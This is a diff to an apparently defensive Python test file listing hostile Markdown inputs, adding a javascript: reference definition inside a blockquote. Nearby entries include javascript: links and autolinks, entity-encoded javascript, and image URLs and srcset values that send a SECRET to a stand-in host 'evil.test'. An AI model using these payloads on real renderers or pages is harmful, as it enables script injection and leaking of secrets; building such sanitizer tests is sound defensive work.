@@ -112,6 +112,7 @@ VECTORS = {
     "odd space in a label": f"![x][a\u2028b]\n\n[a\u2028b]: {SECRET}",
     "DEL in an image URL": "![x](https://evil.test/a\x7fb?q=SECRET)",
     "javascript link": "[x](javascript:alert(1))",
+    "javascript definition in a quote": "> [a]: javascript:alert(1)\n\n[x][a]",
     "entity javascript": "[x](&#x6A;avascript:alert(1))",
     "autolink": "<javascript:alert(1)>",
     "srcset": f'<img srcset="{SECRET} 1x">',
